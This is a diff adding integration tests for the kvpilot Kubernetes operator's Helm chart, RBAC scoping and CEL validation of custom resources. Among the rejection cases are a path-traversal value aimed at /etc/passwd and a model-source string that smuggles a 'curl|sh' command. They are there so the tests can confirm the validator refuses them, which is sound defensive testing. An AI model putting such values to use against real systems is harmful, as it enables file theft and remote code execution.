@@ -69,11 +69,34 @@ def test_chart_installs_crd_and_least_privilege_identity(cluster, chart):
     cluster.kubectl("apply", "-f", str(ROOT / "crds"))  # kubectl apply of crds/ over the chart's copy: same object
 
 
+def test_chart_rbac_is_namespaced_when_watch_namespaces_is_set(cluster):
+    out = cluster.helm("template", "kvpilot", str(ROOT / "charts" / "kvpilot"), "-n", CHART_NS, "--set", "watchNamespaces={team-x,team-y}").stdout
+    docs = [d for d in yaml.safe_load_all(out) if d]
+    (cluster_role,) = [d for d in docs if d["kind"] == "ClusterRole"]
+    assert [r["resources"] for r in cluster_role["rules"]] == [["customresourcedefinitions"]]
+    roles = {(d["metadata"]["namespace"], d["metadata"]["name"]): d for d in docs if d["kind"] == "Role"}
+    assert {("team-x", "kvpilot"), ("team-y", "kvpilot"), (CHART_NS, "kvpilot-leader-election")} <= set(roles)
+    assert any("deployments" in r["resources"] for r in roles[("team-x", "kvpilot")]["rules"])
+    bindings = {(d["metadata"]["namespace"], d["roleRef"]["name"]) for d in docs if d["kind"] == "RoleBinding"}
+    assert {("team-x", "kvpilot"), ("team-y", "kvpilot"), (CHART_NS, "kvpilot-leader-election")} <= bindings
+    dep = next(d for d in docs if d["kind"] == "Deployment")
+    assert dep["spec"]["replicas"] == 2 and "--namespace=team-x" in dep["spec"]["template"]["spec"]["containers"][0]["args"]
+    # the chart's PodMonitor relabels exactly as the operator's own (the autoscaler's queries depend on it)
+    from kvpilot.operator.builders.manifests import METRICS_RELABELINGS
+
+    out = cluster.helm("template", "kvpilot", str(ROOT / "charts" / "kvpilot"), "--set", "serviceMonitor.enabled=true").stdout
+    monitor = next(d for d in yaml.safe_load_all(out) if d and d["kind"] == "PodMonitor")
+    assert monitor["spec"]["podMetricsEndpoints"][0]["relabelings"] == METRICS_RELABELINGS
+
+
 def test_invalid_objects_rejected_by_cel(cluster, namespace, chart):
     cases = [({"minReplicas": 0}, "scale to zero"), ({"minReplicas": 3, "maxReplicas": 2}, "minReplicas must be <= maxReplicas"),
              ({"replicas": 9}, "replicas must be within"), ({"engineSettings": {"tensorParallelSize": 0}}, "tensorParallelSize"),
              ({"engineSettings": {"speculative": {"method": "draft"}}}, "needs draftModel"),
-             ({"model": {"source": "ftp://nope"}}, "source")]
+             ({"model": {"source": "ftp://nope"}}, "source"),
+             ({"model": {"source": "pvc://claim/../../../etc/passwd"}}, "'..' are not allowed"),
+             ({"model": {"source": 'hf://org/repo/x";curl${IFS}x|sh;echo${IFS}"\'.gguf'}}, "source"),
+             ({"env": [{"name": "POD_IP", "value": "1.2.3.4"}]}, "cannot be overridden")]
     for spec, message in cases:
         body = json.loads(isvc("bad"))
         body["spec"].update(spec)
@@ -154,6 +177,12 @@ def test_bad_spec_gives_degraded_and_event(cluster, namespace, operator):
     obj = wait_until(lambda: (lambda o: o if condition(o, "Degraded").get("reason") == "Unschedulable" else None)(kget(cluster, "kvis", "nogpu", "-n", namespace)),
                      timeout=40, what="Degraded/Unschedulable")
     assert "node(s) didn't match" in condition(obj, "Degraded")["message"] or "affinity" in condition(obj, "Degraded")["message"]
+    # engine settings the engine's own config refuses: a condition and an Event, not an endless retry
+    cluster.kubectl("apply", "-n", namespace, "-f", "-", input=isvc("tinykv", engineSettings={"kvCacheMemory": "1"}))
+    obj = wait_until(lambda: (lambda o: o if condition(o, "Degraded").get("reason") == "InvalidEngineSettings" else None)(kget(cluster, "kvis", "tinykv", "-n", namespace)),
+                     timeout=30, what="Degraded/InvalidEngineSettings")
+    assert "kv_cache_memory" in condition(obj, "Degraded")["message"] and kget(cluster, "deployment", "tinykv", "-n", namespace) is None
+    wait_until(lambda: [e for e in kget(cluster, "events", "-n", namespace)["items"] if e["reason"] == "InvalidEngineSettings"], timeout=20, what="Event")
     assert operator.proc.poll() is None  # no crash
 
 
